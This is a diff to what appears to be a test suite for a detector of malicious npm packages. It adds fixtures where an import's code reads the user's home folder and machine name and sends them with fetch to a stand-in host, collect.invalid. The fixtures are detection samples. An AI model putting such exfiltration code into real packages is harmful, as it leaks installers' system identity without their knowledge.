@@ -6,6 +6,18 @@ const hook = { name: 'specimen', version: '99.0.0', scripts: { preinstall: 'node
 examine(sendsSystemIdentity, {
   speaks: [
     {
+      when: 'an import sends one mark, under its name on each system',
+      files: { 'index.js': `const home = process.env.USERPROFILE || process.env.HOME; fetch('https://collect.invalid/?h=' + home);` },
+      weight: 'weak',
+    },
+    {
+      when: 'an import sends the folder of its user and the name that the machine has on each system',
+      files: {
+        'index.js': `const name = process.env.COMPUTERNAME || process.env.HOSTNAME; fetch('https://collect.invalid/?h=' + process.env.HOME + '&n=' + name);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a hook posts who and where it is',
       files: {
         'package.json': hook,
